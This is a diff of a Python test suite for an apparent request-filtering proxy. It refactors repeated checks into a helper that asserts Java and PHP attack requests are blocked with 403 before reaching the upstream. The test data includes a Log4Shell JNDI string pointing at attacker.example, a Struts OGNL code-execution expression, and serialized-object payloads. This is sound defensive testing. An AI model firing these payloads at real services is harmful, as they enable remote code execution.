@@ -303,6 +303,16 @@ def test_review_bypasses_are_closed(procs):
         assert r.status_code == 200, (path, r.status_code, r.text)
 
 
+def _blocked_before_the_upstream(e, echo, detector, cases):
+    """Each (path, headers, rule, field) is a 403 naming that finding; the upstream saw none."""
+    for path, headers, rule, field in cases:
+        r = e.request(path, headers=headers, timeout=TIMEOUT)
+        assert r.status_code == 403, (path, headers, r.text)
+        found = r.json()["findings"]
+        assert {"detector": detector, "rule": rule, "field": field} in found, found
+    assert echo.snapshot() == [], "the upstream saw a blocked request"
+
+
 LOG4SHELL_UA = "Mozilla/5.0 ${${lower:j}${::-n}di:ldap://attacker.example/a}"
 SERIALIZED_B64 = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw"
 
@@ -316,12 +326,7 @@ def test_java_attacks_are_blocked_before_the_upstream(procs):
         ("/struts?redirect=%25%7B%28%23_memberAccess%5B%27allowStaticMethodAccess%27%5D%3Dtrue%29%7D",
          {}, "java.code-execution", "query.redirect"),
     ]
-    for path, headers, rule, field in cases:
-        r = e.request(path, headers=headers, timeout=TIMEOUT)
-        assert r.status_code == 403, (path, headers, r.text)
-        found = r.json()["findings"]
-        assert {"detector": "java", "rule": rule, "field": field} in found, found
-    assert echo.snapshot() == [], "the upstream saw a blocked request"
+    _blocked_before_the_upstream(e, echo, "java", cases)
     # Placeholders and prose pass; an excluded field carries a serialized object (JSF view state).
     for path, headers in [("/greet?t=Hello%20%24%7Bname%7D", {}),
                           ("/docs?q=java%20runtime%20settings", {}),
@@ -344,12 +349,7 @@ def test_php_injection_is_blocked_before_the_upstream(procs):
         ("/items", {"cookie": 'cart=O:8:"stdClass":1:{s:1:"a";i:2;}'}, "php.serialized-object",
          "cookie.cart"),
     ]
-    for path, headers, rule, field in cases:
-        r = e.request(path, headers=headers, timeout=TIMEOUT)
-        assert r.status_code == 403, (path, headers, r.text)
-        found = r.json()["findings"]
-        assert {"detector": "php", "rule": rule, "field": field} in found, found
-    assert echo.snapshot() == [], "the upstream saw a blocked request"
+    _blocked_before_the_upstream(e, echo, "php", cases)
     for path in ["/items?note=our%20system(s)%20failed", "/items?email=richard.php%40example.com",
                  "/items?q=exec()%20in%20python"]:
         assert e.request(path, timeout=TIMEOUT).status_code == 200, path
